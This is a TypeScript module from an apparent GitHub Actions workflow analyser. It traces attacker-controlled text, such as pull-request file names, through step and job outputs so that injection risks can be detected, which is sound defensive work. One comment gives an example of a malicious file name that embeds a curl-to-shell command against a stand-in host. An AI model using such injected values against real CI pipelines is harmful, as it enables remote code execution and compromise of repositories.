import type { Document } from 'yaml';
import { mapEntries, mapValue, scalarText } from '../shared-yaml/nodes';
import { untrustedContext } from './untrusted';
import { classifyExpressions, normaliseExpression, usesAction, variablesSetFrom, type Job, type Step, type WorkflowFile } from './workflow';

/**
 * Actions whose outputs carry what a contributor chose: the names of the files a pull request
 * changes (a file may be called `$(curl evil.sh | sh).md`).
 */
const ACTIONS_WITH_UNTRUSTED_OUTPUTS: Readonly<Record<string, string>> = {
  'tj-actions/changed-files': 'the names of the files the pull request changes',
  'dorny/paths-filter': 'the names of the files the pull request changes',
};

/** `echo "name=value" >> $GITHUB_OUTPUT` (any quoting, `printf` too) or the old `::set-output name=…::value`. */
const OUTPUT_WRITE = /^\s*(?:echo|printf)\b(?:\s+-\w+)*\s+["']?([A-Za-z_][\w-]*)=(.*?)>>\s*["']?\$\{?GITHUB_OUTPUT\b/;
const SET_OUTPUT = /::set-output\s+name=([A-Za-z_][\w-]*)::(.*)$/;

/**
 * What the outputs of a step hold when they hold attacker-controlled text: output name (lower-cased;
 * `*` for every output of an action listed above) → where the text came from. Read from the lines of
 * its `run:` script that write `$GITHUB_OUTPUT` with an untrusted expression or an `env:` variable
 * holding one (`untrustedEnv`).
 */
export function untrustedOutputs(step: Step, document: Document.Parsed, untrustedEnv: ReadonlyMap<string, string>): Map<string, string> {
  const outputs = new Map<string, string>();
  if (step.uses) {
    const uses = String(step.uses.value);
    for (const [action, what] of Object.entries(ACTIONS_WITH_UNTRUSTED_OUTPUTS)) if (usesAction(uses, action)) outputs.set('*', what);
  }
  const script = step.run === undefined ? undefined : scalarText(step.run, document);
  if (script === undefined) return outputs;
  for (const line of script.split('\n')) {
    const write = OUTPUT_WRITE.exec(line) ?? SET_OUTPUT.exec(line);
    if (write === null) continue;
    const [, name, value] = write;
    const source = classifyExpressions(value, untrustedContext) ?? shellVariableSource(value, untrustedEnv);
    if (source !== undefined) outputs.set(name.toLowerCase(), source);
  }
  return outputs;
}

/** The untrusted context behind a `$NAME` or `${NAME}` the value reads, if any. */
function shellVariableSource(value: string, untrustedEnv: ReadonlyMap<string, string>): string | undefined {
  for (const match of value.matchAll(/\$\{?([A-Za-z_]\w*)/g)) {
    const source = untrustedEnv.get(match[1]);
    if (source !== undefined) return source;
  }
  return undefined;
}

/** The step id of a step, lower-cased (GitHub's contexts ignore case), if it has one. */
export function stepId(step: Step, document: Document.Parsed): string | undefined {
  return scalarText(mapValue(step.node, 'id', document), document)?.trim().toLowerCase() || undefined;
}

/** Outputs holding untrusted text, by writer (a step id, or a job id) → output name (or `*`) → source. */
export type UntrustedOutputs = ReadonlyMap<string, ReadonlyMap<string, string>>;

/**
 * The untrusted outputs of a workflow: of each job's steps (by job), and of the jobs themselves,
 * whose `outputs:` pass on a step's (`title: ${{ steps.meta.outputs.title }}`) or an untrusted
 * context directly. A step can only read the outputs of the steps before it; one reading a later
 * step's gets nothing, so reading them all is the same.
 */
export function untrustedWorkflowOutputs(file: WorkflowFile): { steps: Map<Job | undefined, UntrustedOutputs>; jobs: UntrustedOutputs } {
  const steps = new Map<Job | undefined, UntrustedOutputs>();
  const jobs = new Map<string, Map<string, string>>();
  // A composite action's steps are one sequence without a job.
  for (const job of [...file.jobs, undefined]) {
    const byStep = new Map<string, Map<string, string>>();
    for (const step of job?.steps ?? file.actionSteps) {
      const id = stepId(step, file.document);
      if (id === undefined) continue;
      const untrustedEnv = variablesSetFrom([file.env, job?.env, step.env], file.document, (value) => classifyExpressions(value, untrustedContext));
      const written = untrustedOutputs(step, file.document, untrustedEnv);
      if (written.size > 0) byStep.set(id, written);
    }
    steps.set(job, byStep);
    if (job === undefined) continue;
    const passed = new Map<string, string>();
    for (const { key, value } of mapEntries(mapValue(job.node, 'outputs', file.document), file.document)) {
      const text = scalarText(value, file.document);
      if (text === undefined) continue;
      const source = classifyExpressions(text, (body) => untrustedContext(body) ?? untrustedOutputRead(body, byStep, new Map())?.source);
      if (source !== undefined) passed.set(key.toLowerCase(), source);
    }
    if (passed.size > 0) jobs.set(job.id.toLowerCase(), passed);
  }
  return { steps, jobs };
}

/**
 * The first `steps.<id>.outputs.<name>` or `needs.<job>.outputs.<name>` an expression reads that
 * holds untrusted text, with who wrote it.
 */
export function untrustedOutputRead(body: string, steps: UntrustedOutputs, jobs: UntrustedOutputs): { path: string; source: string; writer: string } | undefined {
  for (const match of normaliseExpression(body).matchAll(/\b(steps|needs)\.([\w-]+)\.outputs\.([\w-]+)/g)) {
    const outputs = (match[1] === 'steps' ? steps : jobs).get(match[2]);
    const source = outputs?.get(match[3]) ?? outputs?.get('*');
    if (source !== undefined) return { path: match[0], source, writer: `${match[1] === 'steps' ? 'step' : 'job'} \`${match[2]}\`` };
  }
  return undefined;
}
